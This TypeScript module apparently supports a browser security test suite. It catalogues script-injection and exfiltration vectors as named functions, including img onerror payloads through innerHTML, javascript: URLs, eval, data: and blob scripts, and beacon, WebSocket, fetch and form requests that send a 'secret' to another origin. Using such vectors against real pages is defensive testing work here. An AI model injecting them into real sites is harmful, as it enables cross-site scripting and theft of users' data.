// What somebody tries who has brought markup or a value into a page: each attempt is a function that runs in the page,
// needs nothing around it, and shows that it worked by `caught` in the page or by a request that arrives elsewhere.

declare global {
  interface Window {
    caught?: string[];
  }
}

export interface Target {
  /** The attempt's name, and what it pushes into `caught`. */
  readonly name: string;
  /** Code that does so. */
  readonly mark: string;
  /** The address of another origin that writes down who asks; the attempt's name is the last part of it. */
  readonly away: string;
}

type Run = (target: Target) => void;

export interface Attempt {
  readonly run: Run | { readonly text: (target: Target) => string };
  /** Works by leaving or overwriting the page: runs in a page of its own. */
  readonly leaves?: true;
}

const code: Readonly<Record<string, Run>> = {
  "inline script": ({ mark }) => {
    const script = document.createElement("script");
    script.textContent = mark;
    document.body.append(script);
  },
  "inline script by its text node": ({ mark }) => {
    const script = document.createElement("script");
    script.append(document.createTextNode(mark));
    document.body.append(script);
  },
  "inline module": ({ mark }) => {
    const script = document.createElement("script");
    script.type = "module";
    script.append(document.createTextNode(mark));
    document.body.append(script);
  },
  innerHTML: ({ mark }) => {
    const place = document.body.appendChild(document.createElement("div"));
    place.innerHTML = `<img src="data:," onerror="${mark}">`;
  },
  insertAdjacentHTML: ({ mark }) => {
    document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="${mark}">`);
  },
  outerHTML: ({ mark }) => {
    const place = document.body.appendChild(document.createElement("div"));
    place.outerHTML = `<img src="data:," onerror="${mark}">`;
  },
  createContextualFragment: ({ mark }) => {
    document.body.append(document.createRange().createContextualFragment(`<script>${mark}</script>`));
  },
  DOMParser: ({ mark }) => {
    const other = new DOMParser().parseFromString(`<img src="data:," onerror="${mark}">`, "text/html");
    const [image] = other.images;
    if (image !== undefined) document.body.append(document.adoptNode(image));
  },
  "a policy of one's own": ({ mark }) => {
    const { trustedTypes } = window as unknown as {
      readonly trustedTypes: {
        createPolicy(name: string, rules: object): { createHTML(text: string): string };
      };
    };
    const policy = trustedTypes.createPolicy("default", { createHTML: (text: string) => text });
    const place = document.body.appendChild(document.createElement("div"));
    place.innerHTML = policy.createHTML(`<img src="data:," onerror="${mark}">`);
  },
  "handler as attribute": ({ mark }) => {
    const button = document.body.appendChild(document.createElement("button"));
    button.setAttribute("onclick", mark);
    button.click();
  },
  "link with a javascript address": ({ mark }) => {
    const link = document.body.appendChild(document.createElement("a"));
    link.href = `javascript:void ${mark}`;
    link.click();
  },
  "frame with a javascript address": ({ mark }) => {
    const frame = document.createElement("iframe");
    frame.src = `javascript:void parent.${mark}`;
    document.body.append(frame);
  },
  srcdoc: ({ mark }) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", `<script>parent.${mark}</script>`);
    document.body.append(frame);
  },
  // biome-ignore lint/security/noGlobalEval: that it does nothing is what is shown
  eval: ({ mark }) => void setTimeout(() => globalThis.eval(mark)),
  "new Function": ({ mark }) => void setTimeout(() => new Function(mark)()),
  "timer with text": ({ mark }) => {
    const start = setTimeout as unknown as (text: string) => void;
    setTimeout(() => start(mark));
  },
  "script as data": ({ mark }) => {
    const script = document.createElement("script");
    script.src = `data:text/javascript,${mark}`;
    document.body.append(script);
  },
  "worker from a blob": ({ name }) => {
    const blob = new Blob(["postMessage(1)"], { type: "text/javascript" });
    const worker = new Worker(URL.createObjectURL(blob));
    worker.onmessage = () => window.caught?.push(name);
  },
  "worker from data": ({ name }) => {
    const worker = new Worker("data:text/javascript,postMessage(1)");
    worker.onmessage = () => window.caught?.push(name);
  },
  "shared worker": ({ name }) => {
    const blob = new Blob(["onconnect = (event) => event.ports[0].postMessage(1)"], {
      type: "text/javascript",
    });
    const { port } = new SharedWorker(URL.createObjectURL(blob));
    port.onmessage = () => window.caught?.push(name);
  },
  "base address": ({ name, away }) => {
    const base = document.createElement("base");
    base.href = away;
    document.head.prepend(base);
    if (document.baseURI === away) window.caught?.push(name);
    base.remove();
  },
  "style sheet in the page": ({ name }) => {
    const place = document.body.appendChild(document.createElement("p"));
    place.className = "injected";
    const style = document.createElement("style");
    style.textContent = ".injected { opacity: 0.5 }";
    document.head.append(style);
    if (getComputedStyle(place).opacity === "0.5") window.caught?.push(name);
    style.remove();
  },
  "style as attribute": ({ name }) => {
    const place = document.body.appendChild(document.createElement("p"));
    place.setAttribute("style", "opacity: 0.5");
    if (getComputedStyle(place).opacity === "0.5") window.caught?.push(name);
  },
};

const requests: Readonly<Record<string, Run>> = {
  "foreign script": ({ away }) => {
    const script = document.createElement("script");
    script.src = away;
    document.body.append(script);
  },
  "foreign script as attribute": ({ away }) => {
    const script = document.createElement("script");
    script.setAttribute("src", away);
    document.body.append(script);
  },
  "foreign frame": ({ away }) => {
    const frame = document.createElement("iframe");
    frame.src = away;
    document.body.append(frame);
  },
  "foreign object": ({ away }) => {
    const object = document.createElement("object");
    object.data = away;
    object.type = "text/html";
    document.body.append(object);
  },
  "foreign style sheet": ({ away }) => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = away;
    document.head.append(link);
  },
  preload: ({ away }) => {
    const link = document.createElement("link");
    link.rel = "preload";
    link.as = "image";
    link.href = away;
    document.head.append(link);
  },
  "foreign picture": ({ away }) => {
    new Image().src = away;
  },
  "picture of a style": ({ away }) => {
    const place = document.body.appendChild(document.createElement("p"));
    place.style.width = "9px";
    place.style.height = "9px";
    place.style.backgroundImage = `url("${away}")`;
  },
  "foreign sound": ({ away }) => void new Audio(away).load(),
  "foreign font": ({ away }) => {
    new FontFace("foreign", `url("${away}")`).load().catch(() => {});
  },
  fetch: ({ away }) => {
    fetch(away, { mode: "no-cors" }).catch(() => {});
  },
  XMLHttpRequest: ({ away }) => {
    const request = new XMLHttpRequest();
    request.open("GET", away);
    request.send();
  },
  sendBeacon: ({ away }) => void navigator.sendBeacon(away, "secret"),
  EventSource: ({ away }) => {
    const source = new EventSource(away);
    source.onerror = () => source.close();
  },
  WebSocket: ({ away }) => void new WebSocket(away.replace("http", "ws")),
  "form to elsewhere in a frame": ({ away }) => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    document.body.append(frame);
    const form = document.body.appendChild(document.createElement("form"));
    form.action = away;
    form.target = "target";
    form.submit();
  },
};

const leaving: Readonly<Record<string, Run>> = {
  "document.write": ({ mark }) => {
    setTimeout(() => {
      document.write(`<script>${mark}</script>`);
      document.close();
    });
  },
  "location with a javascript address": ({ mark }) => {
    setTimeout(() => location.assign(`javascript:void ${mark}`));
  },
  "form to elsewhere": ({ away }) => {
    const form = document.body.appendChild(document.createElement("form"));
    form.method = "post";
    form.action = away;
    const field = form.appendChild(document.createElement("input"));
    field.name = "secret";
    setTimeout(() => form.submit());
  },
};

/** As text, because a bundler would put its own function in the place of `import`. */
const later = (expression: string): string => `setTimeout(() => import(${expression}).catch(() => {}))`;

/** The same as texts. */
const TEXTS: Readonly<Record<string, (target: Target) => string>> = {
  "import of data": ({ mark }) => later(JSON.stringify(`data:text/javascript,${mark}`)),
  "import of a blob": ({ mark }) =>
    later(`URL.createObjectURL(new Blob([${JSON.stringify(mark)}], { type: "text/javascript" }))`),
  "import from elsewhere": ({ away }) => later(JSON.stringify(away)),
};

const entries = (all: Readonly<Record<string, Attempt["run"]>>, more: Omit<Attempt, "run"> = {}) =>
  Object.entries(all).map(([name, run]) => [name, { run, ...more }] as const);

/** All of them by name. */
export const ATTEMPTS: ReadonlyMap<string, Attempt> = new Map([
  ...entries(code),
  ...entries(requests),
  ...Object.entries(TEXTS).map(([name, text]) => [name, { run: { text } }] as const),
  ...entries(leaving, { leaves: true }),
]);
